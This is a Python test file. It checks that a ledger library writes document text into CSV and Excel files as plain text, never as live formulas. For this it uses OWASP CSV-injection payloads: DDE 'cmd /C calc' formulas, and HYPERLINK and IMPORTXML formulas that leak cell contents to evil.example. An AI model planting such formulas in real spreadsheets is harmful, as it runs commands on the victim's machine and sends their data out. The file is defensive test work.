"""Issue 18: a document's "=HYPERLINK(…)" or DDE payload never becomes a live formula in a CSV or Excel ledger.

Payloads from the OWASP CSV Injection page (https://owasp.org/www-community/attacks/CSV_Injection)
and its cheat sheet, placed in 工作任务 (the task text) and 任务来源 (the title).
"""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from textkit.ledgers import open_ledger
from textkit.ledgers.files import FORMULA_TRIGGERS
from textkit.ledgers.testing import sample_document, sample_records

OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for further information")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "=1+2",
    "\t=1+2",
    "\r=1+2",
    "=IMPORTXML(CONCAT(\"http://evil.example/\", CONCATENATE(A2:E2)), \"//a\")",
    "-1",
]


def poisoned() -> tuple[list, object]:
    records = [r.evolve(text=payload + "县应急管理局要牵头完成检查。", task_id=f"{i:016x}")
               for i, (r, payload) in enumerate(zip(sample_records() * 4, OWASP_PAYLOADS, strict=False))]
    document = sample_document().evolve(title=OWASP_PAYLOADS[2])
    return records, document


def test_owasp_payloads_are_text_in_a_csv_ledger(tmp_path: Path) -> None:
    path = tmp_path / "ledger.csv"
    records, document = poisoned()
    with open_ledger(str(path)) as ledger:
        ledger.upsert(records, document=document)
    with path.open(encoding="utf-8-sig", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    live = [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
    assert live == [], "a cell a spreadsheet would evaluate"
    frame = open_ledger(str(path)).read()
    assert sorted(frame["工作任务"]) == sorted(r.text for r in records), "the guard is invisible to readers"
    assert set(frame["任务来源"]) == {f"{document.title}（{document.date}）"}
    again = open_ledger(str(path)).upsert(records, document=document)
    assert (again.inserted, again.updated) == (0, 0), "re-seeding sees no change"


def test_owasp_payloads_are_text_cells_in_an_excel_ledger(tmp_path: Path) -> None:
    path = tmp_path / "台账.xlsx"
    records, document = poisoned()
    with open_ledger(str(path)) as ledger:
        ledger.upsert(records, document=document)
    with zipfile.ZipFile(path) as book:
        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
    assert not any(re.search(r"<f[ >]", sheet) for sheet in sheets), "a formula element in the sheet"
    sheet = openpyxl.load_workbook(path)["台账"]
    header = [c.value for c in sheet[1]]
    column = header.index("工作任务") + 1
    source = header.index("任务来源") + 1
    for row in range(2, sheet.max_row + 1):
        for col in (column, source):
            cell = sheet.cell(row, col)
            assert cell.data_type == "s"
            assert cell.quotePrefix, f"{cell.coordinate} {cell.value!r} would turn into a formula when edited"
    frame = open_ledger(str(path)).read()
    assert sorted(frame["工作任务"]) == sorted(r.text for r in records)
    again = open_ledger(str(path)).upsert(records, document=document)
    assert (again.inserted, again.updated) == (0, 0)


@pytest.mark.parametrize("name", ["ledger.csv", "台账.xlsx"])
def test_a_speech_that_opens_with_a_formula_is_seeded_as_text(tmp_path: Path, name: str) -> None:
    from textkit.pipeline import extract

    text = ('=HYPERLINK("http://evil.example","点击查看")\n二、抓好重点工作\n'
            '一要压实责任。县应急管理局要牵头,6月30日前完成检查。二要加强调度。各乡镇要在7月底前完成整改。')
    result = extract(text, ref_date="2024-04-18")
    path = tmp_path / name
    with open_ledger(str(path)) as ledger:
        ledger.seed(result)
    if name.endswith(".csv"):
        raw = path.read_text(encoding="utf-8-sig")
        assert not re.search(r'(^|,)"?=HYPERLINK', raw, re.M)
    else:
        sheet = openpyxl.load_workbook(path)["台账"]
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
